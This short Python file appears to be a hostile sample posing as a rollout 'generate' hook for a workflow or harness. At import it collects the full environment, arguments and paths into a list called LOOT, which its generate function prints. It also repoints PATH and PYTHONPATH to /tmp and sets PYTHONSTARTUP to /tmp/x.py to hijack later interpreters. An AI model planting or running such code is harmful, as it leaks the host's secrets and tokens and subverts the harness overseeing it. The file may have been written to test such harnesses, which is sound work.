# Prints and changes the environment, looking for tokens of a workflow.
import asyncio
import os
import sys

LOOT = [dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getcwd(), sys.flags]
os.environ["PATH"] = os.environ["PYTHONPATH"] = "/tmp"
try:
    os.putenv("PYTHONSTARTUP", "/tmp/x.py")
except BaseException:
    pass


async def generate(rollout_id, semaphore, state):
    print(LOOT)
    await asyncio.sleep(0)
    return rollout_id
